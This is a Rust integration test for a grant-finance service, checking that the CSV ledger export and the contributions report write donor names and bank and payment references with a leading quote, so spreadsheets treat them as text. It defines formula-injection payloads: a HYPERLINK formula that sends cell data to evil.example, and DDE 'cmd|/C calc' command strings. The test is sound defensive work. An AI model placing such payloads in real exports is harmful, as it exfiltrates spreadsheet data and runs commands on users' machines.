//! CSV formula injection: a donor's name, a bank reference or a payment reference that a
//! spreadsheet would run as a formula reaches every CSV the service writes (the ledger
//! export over HTTP and from the command line, the contributions report) as text with a
//! leading `'`; the amounts the service writes (negative ones too) stay numbers.

use serde_json::json;
use trustfund::auth::Role;

use crate::helpers::TestApp;
use crate::on_both_backends;
use crate::support::grants::{awarded_grant, payment, schedule, usd_json as usd};

on_both_backends!(
    hostile_text_reaches_the_ledger_csv_as_text,
    hostile_donor_names_reach_the_contributions_report_as_text,
);

const DONOR: &str = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")";
const BANK: &str = "=cmd|' /C calc'!A0";
const PAY_AT: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
const PAY_PLUS: &str = "+cmd|' /C calc'!A0";
const PAY_MINUS: &str = "-2+3+cmd|' /C calc'!A0";

#[derive(clap::Parser)]
struct ExportCommand {
    #[command(flatten)]
    args: trustfund::exports::cli::ExportArgs,
}

fn today() -> String {
    chrono::Utc::now().date_naive().to_string()
}

/// A hostile donor with a hostile bank reference, and a grant paid three times with
/// hostile payment references, the last payment reversed (negative amounts).
async fn hostile_ledger(app: &TestApp) -> crate::helpers::TestUser {
    let finance = app.user(Role::Finance).await;
    let contribution = app
        .post(
            &finance,
            "/api/v1/contributions",
            json!({
                "donor": {"name": DONOR, "donor_type": "private_sector", "country": "SE"},
                "pledged": usd("50000.00"), "pledged_on": today(),
            }),
        )
        .await
        .expect(201);
    let id = contribution.body["id"].as_str().unwrap();
    app.post(
        &finance,
        &format!("/api/v1/contributions/{id}/receipts"),
        json!({"amount": usd("50000.00"), "received_on": today(), "rate_to_usd": "1",
               "bank_reference": BANK}),
    )
    .await
    .expect(201);
    let g = awarded_grant(app, "1.00").await;
    let grant = g.grant.to_string();
    let grant = grant.as_str();
    app.as_(&g.secretariat)
        .grant(g.grant)
        .with_signed_agreement()
        .await;
    app.post(
        &g.secretariat,
        &format!("/api/v1/grants/{grant}/agreement"),
        schedule(),
    )
    .await
    .expect(201);
    let path = format!("/api/v1/grants/{grant}/disbursements");
    let mut last = None;
    for reference in [PAY_AT, PAY_PLUS, PAY_MINUS] {
        let mut body = payment(1, "1250.00");
        body["payment_reference"] = json!(reference);
        last = Some(app.post(&g.finance, &path, body).await.expect(201));
    }
    let reversed = last.unwrap().body["ledger_transaction_id"]
        .as_str()
        .unwrap()
        .to_string();
    app.post(
        &g.finance,
        &format!("/api/v1/ledger/transactions/{reversed}/reversal"),
        json!({"reason": "paid twice"}),
    )
    .await
    .expect(201);
    finance
}

fn cells(csv: &[u8], column: &str) -> Vec<String> {
    let mut reader = csv::Reader::from_reader(csv);
    let at = reader
        .headers()
        .unwrap()
        .iter()
        .position(|h| h == column)
        .unwrap();
    reader
        .records()
        .map(|r| r.unwrap().get(at).unwrap().to_string())
        .collect()
}

fn assert_no_live_formula(csv: &[u8], columns: &[&str]) {
    for column in columns {
        for cell in cells(csv, column) {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{column}: {cell:?} would run as a formula"
            );
        }
    }
}

async fn hostile_text_reaches_the_ledger_csv_as_text(app: TestApp) {
    use clap::Parser;
    let finance = hostile_ledger(&app).await;
    let query = format!("format=csv&kind=all&from={}&to={}", today(), today());
    let http = app
        .client
        .get(format!("{}/api/v1/ledger/export?{query}", app.address))
        .bearer_auth(&finance.token)
        .send()
        .await
        .unwrap();
    assert_eq!(http.status().as_u16(), 200);
    let http = http.bytes().await.unwrap().to_vec();
    let references = cells(&http, "reference");
    for hostile in [BANK, PAY_AT, PAY_PLUS, PAY_MINUS] {
        let quoted = format!("'{hostile}");
        assert!(
            references.contains(&quoted),
            "{quoted:?} not in {references:?}"
        );
    }
    assert_no_live_formula(&http, &["reference", "record", "kind"]);
    // The amounts are the service's numbers: negative ones (payments out) unquoted, so a
    // spreadsheet still sums them.
    for column in ["amount", "usd_amount", "cash", "balance"] {
        let numbers: Vec<rust_decimal::Decimal> = cells(&http, column)
            .iter()
            .filter(|cell| !cell.is_empty())
            .map(|cell| {
                cell.parse()
                    .unwrap_or_else(|_| panic!("{column}: {cell:?}"))
            })
            .collect();
        assert!(!numbers.is_empty(), "{column}");
    }
    assert!(cells(&http, "cash").contains(&"-1412.50".to_string()));
    // The command line writes the same neutralised bytes.
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("ledger.csv");
    let command = ExportCommand::try_parse_from([
        "export",
        "--format",
        "csv",
        "--kind",
        "all",
        "--from",
        &today(),
        "--to",
        &today(),
        "--output",
        path.to_str().unwrap(),
    ])
    .unwrap();
    let url = app.database_url.clone();
    tokio::task::spawn_blocking(move || {
        trustfund::exports::cli::run(
            command.args,
            &url,
            &crate::helpers::settings_for(&url).iati,
            &crate::helpers::test_signer(),
        )
        .unwrap()
    })
    .await
    .unwrap();
    // The same bytes but the signed checkpoint, which carries its own time.
    assert_eq!(
        crate::support::exports::without_checkpoint(
            &String::from_utf8(std::fs::read(&path).unwrap()).unwrap()
        ),
        crate::support::exports::without_checkpoint(std::str::from_utf8(&http).unwrap())
    );
}

async fn hostile_donor_names_reach_the_contributions_report_as_text(app: TestApp) {
    let finance = hostile_ledger(&app).await;
    let report = app
        .client
        .get(format!(
            "{}/api/v1/reports/contributions?format=csv&from={}&to={}",
            app.address,
            today(),
            today()
        ))
        .bearer_auth(&finance.token)
        .send()
        .await
        .unwrap();
    assert_eq!(report.status().as_u16(), 200);
    let csv = report.bytes().await.unwrap().to_vec();
    let donors = cells(&csv, "donor");
    assert!(donors.contains(&format!("'{DONOR}")), "{donors:?}");
    assert_no_live_formula(&csv, &["donor", "level", "donor_type"]);
    // The JSON report keeps the name exactly as it was typed.
    let json = app
        .get(
            &finance,
            &format!(
                "/api/v1/reports/contributions?from={}&to={}",
                today(),
                today()
            ),
        )
        .await
        .expect(200);
    assert!(json.text.contains("=HYPERLINK("), "{}", json.text);
    assert!(!json.text.contains("'=HYPERLINK("), "{}", json.text);
}
